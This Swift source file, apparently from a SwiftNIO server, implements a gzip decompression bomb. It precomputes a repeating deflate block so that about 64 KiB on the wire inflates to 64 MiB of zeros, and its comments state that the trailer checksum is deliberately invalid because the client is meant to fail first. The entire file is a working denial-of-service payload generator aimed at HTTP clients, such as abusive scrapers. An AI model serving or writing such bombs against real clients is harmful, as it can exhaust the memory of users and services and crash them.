import CompressNIO
import NIOCore

/// A gzip body of any number of zero bytes at about a thousandth of that size on the wire, made
/// without compressing them all: deflate compresses every further mebibyte of zeros after a
/// sync flush to the same bytes, so those bytes are made once and repeated.
///
/// The trailer's checksum is the one of the three mebibytes compressed to find those bytes; a
/// client reading to the end would see a corrupt body, but the point of a bomb is that a client
/// must stop long before.
enum GzipBomb {
    /// The first mebibyte (with the gzip header), one further mebibyte, and the end of the stream.
    struct Pieces: Sendable {
        var first: ByteBuffer
        var steady: ByteBuffer
        var end: ByteBuffer
    }

    static let mebibyte = 1024 * 1024

    /// Made on first use; `nil` if deflate's output was not regular (then nothing is faked).
    static let pieces: Pieces? = {
        let compressor = CompressionAlgorithm.gzip().compressor
        guard (try? compressor.startStream()) != nil else { return nil }
        defer { try? compressor.finishStream() }
        func compress(_ count: Int, flush: CompressNIOFlush) -> ByteBuffer? {
            var input = ByteBuffer(repeating: 0, count: count)
            var output = ByteBuffer()
            output.reserveCapacity(compressor.maxSize(from: input) + 64)
            guard (try? compressor.streamDeflate(from: &input, to: &output, flush: flush)) != nil else { return nil }
            return output
        }
        guard let first = compress(mebibyte, flush: .sync),
            let steady = compress(mebibyte, flush: .sync),
            let again = compress(mebibyte, flush: .sync), again == steady,
            let end = compress(0, flush: .finish)
        else { return nil }
        return Pieces(first: first, steady: steady, end: end)
    }()

    /// Writes a bomb of `size` zero bytes (rounded up to whole mebibytes) with `write`.
    static func write(size: Int, to write: (ByteBuffer) async throws -> Void) async throws {
        guard let pieces else {
            try await compressEverything(size: size, to: write)
            return
        }
        try await write(pieces.first)
        var remaining = (size + mebibyte - 1) / mebibyte - 1
        // 64 repeats per write: about 64 KiB on the wire, 64 MiB once inflated.
        var batch = ByteBuffer()
        for _ in 0..<64 { batch.writeImmutableBuffer(pieces.steady) }
        while remaining >= 64 {
            try await write(batch)
            remaining -= 64
        }
        for _ in 0..<remaining { try await write(pieces.steady) }
        try await write(pieces.end)
    }

    /// The honest way, for a zlib whose output is not regular: every mebibyte compressed.
    private static func compressEverything(size: Int, to write: (ByteBuffer) async throws -> Void) async throws {
        let compressor = CompressionAlgorithm.gzip().compressor
        try compressor.startStream()
        defer { try? compressor.finishStream() }
        var written = 0
        while written < size {
            var chunk = ByteBuffer(repeating: 0, count: min(mebibyte, size - written))
            written += chunk.readableBytes
            var output = ByteBuffer()
            output.reserveCapacity(compressor.maxSize(from: chunk))
            try compressor.streamDeflate(from: &chunk, to: &output, flush: written < size ? .no : .finish)
            if output.readableBytes > 0 { try await write(output) }
        }
    }
}
